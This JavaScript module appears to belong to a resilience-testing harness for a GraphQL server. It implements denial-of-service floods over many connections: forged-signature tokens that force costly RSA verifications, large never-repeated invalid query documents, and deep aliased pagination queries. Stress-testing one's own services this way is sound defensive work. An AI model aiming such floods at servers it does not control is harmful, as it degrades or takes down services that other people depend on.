import { randomBytes } from 'node:crypto';
import { Client } from '../client.js';
import { post } from '../post.js';

/** All addresses together. */
const CONNECTIONS = 50;
/** RSA 2048. */
const SIGNATURE_BYTES = 256;
const DOCUMENT_BYTES = 7_000;

/** Tokens whose signature never was: each costs a server a verification. */
export function invalidTokens(origin) {
  const input = origin.token.slice(0, origin.token.lastIndexOf('.'));
  return flood(origin, () => post(origin.port, { query: '{ secret }' }, `${input}.${sign()}`));
}

/** Documents that are not valid, none of them sent before. */
export function invalidDocuments(origin) {
  return flood(origin, (number) => post(origin.port, { query: invalidDocument(number) }));
}

/** The dearest operation that a caller may ask for, or would be: very many rows, by many names. */
export function deepPages(origin) {
  const names = ['a', 'b', 'c', 'd', 'e', 'f'];
  const fields = names.map((name) => `${name}: rows(first: 100) { id text at }`).join(' ');
  return flood(origin, () => post(origin.port, { query: `{ ${fields} }` }, origin.token));
}

export function invalidDocument(number, operation = 'query') {
  const fields = [];
  for (let length = 0; length < DOCUMENT_BYTES; length += 14) {
    fields.push(`f${number}x${fields.length}`.padEnd(13, 'z'));
  }
  return `${operation} { ${fields.join(' ')} }`;
}

/** Asks on whichever connection is free; where none is, the server is slower than the attack. */
function flood({ port, address, origins, count }, createRequest) {
  const size = Math.max(1, Math.round(CONNECTIONS / origins.length));
  const clients = Array.from({ length: size }, () => new Client(port, address));
  return {
    act(number) {
      const client = clients.find(({ isBusy }) => !isBusy);
      if (!client) return count('unsent');
      client.send(createRequest(number), count);
    },
    stop: () => clients.forEach((client) => client.close()),
  };
}

function sign() {
  const bytes = randomBytes(SIGNATURE_BYTES);
  // Below the modulus.
  bytes[0] &= 0x7f;
  return bytes.toString('base64url');
}
